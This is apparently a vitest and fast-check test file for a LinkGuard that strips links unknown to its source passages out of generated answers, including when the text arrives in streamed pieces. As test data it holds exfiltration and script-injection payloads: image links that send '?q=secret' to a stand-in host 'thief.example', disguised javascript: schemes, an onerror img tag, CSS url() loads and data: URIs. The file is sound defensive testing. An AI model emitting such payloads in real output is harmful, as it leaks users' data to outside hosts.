import * as fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {LinkGuard} from '../../src/answers/link-guard.ts'

const known = 'See https://docs.example/guide?a=1 and write to mailto:help@docs.example.'
const guard = (text: string) => new LinkGuard([known, 'docs/cli.md']).guard(text)

describe('links that no passage has are taken out', () => {
  test.each([
    ['a picture', '![x](https://thief.example/?q=secret)', '! [x] (link removed)'],
    ['a picture with a title', 'Done ![x]( <https://thief.example/a b> "t")', 'Done ! [x] (link removed)'],
    ['a link', 'see [here](https://thief.example/?q=secret) now', 'see [here] (link removed) now'],
    ['a link without a scheme', '[a [b] c](//thief.example/x)', '[a [b] c] (link removed)'],
    ['a link with a scheme in disguise', '[a](java&#115;cript:alert(1))', '[a] (link removed))'],
    ['a script address', '[a](javascript:alert)', '[a] (link removed)'],
    ['a reference', '[a][r]\n\n[r]: //thief.example/?q=1', '[a][r]\n\n[r]: (link removed)'],
    ['a bare address', 'Go to https://thief.example/a?b=c.', 'Go to (link removed).'],
    ['an address that begins like a known one', 'https://docs.example/guide?a=1&q=secret', '(link removed)'],
    ['an address in angle brackets', '<https://thief.example/>', '<(link removed)>'],
    ['an element that loads', 'a <img src=x onerror=alert(1)> b', 'a (link removed) b'],
    ['an element with an attribute that loads', '<p style="background:url(//t.example)">b', '(link removed)b'],
    ['an element that is not closed', 'a <img alt', 'a < img alt'],
    ['data', 'data:text/html;base64,AAAA', '(link removed)'],
    ['a mail with a subject', 'mailto:a@thief.example?subject=secret', '(link removed)'],
  ])('%s', (_, text, expected) => {
    expect(guard(text).text).toBe(expected)
  })

  test.each([
    'See https://docs.example/guide?a=1.',
    '[guide](https://docs.example/guide?a=1)',
    '[the page](docs/cli.md)',
    'It is thirty days [1], [2, 3].',
    'Use `<FILE>` if a < b, and x[0] otherwise!',
    'Data: two rows.',
  ])('%s stays', text => {
    expect(guard(text)).toEqual({text, removed: 0})
  })
})

test('however a text is streamed, the reader gets what the whole text gives', () => {
  const parts = fc.constantFrom(
    'a ',
    'text. ',
    '[1] ',
    '![',
    '[',
    'x](',
    'x] (',
    ']: ',
    '//thief.example/ ',
    'https://thief.example/q ',
    'https://docs.example/guide?a=1 ',
    ')',
    '<img ',
    'src=x>',
    '< ',
    '>',
    '\n\n',
    '!',
  )
  fc.assert(
    fc.property(fc.array(parts, {maxLength: 20}), fc.array(fc.nat(), {maxLength: 12}), (made, cuts) => {
      const text = made.join('')
      const places = [0, ...cuts.map(cut => cut % (text.length + 1)).toSorted((one, other) => one - other), text.length]
      const streaming = new LinkGuard([known])
      const pieces = places.slice(1).map((place, at) => streaming.add(text.slice(places[at]!, place)))
      expect([...pieces, streaming.finish()].join('')).toBe(new LinkGuard([known]).guard(text).text)
      expect(pieces.join('')).not.toContain('https://thief')
    }),
    {numRuns: 2000},
  )
})

test.each(['![<img \n\n>]: //thief.example/ ', '[a<img ]>]: //thief.example/ '])(
  'an element in the label of a definition hides no address, in pieces either: %j',
  text => {
    const whole = new LinkGuard([known]).guard(text).text
    const streaming = new LinkGuard([known])
    const pieces = [...text].map(piece => streaming.add(piece))
    expect([...pieces, streaming.finish()].join('')).toBe(whole)
    expect(whole).not.toContain('thief')
  },
)
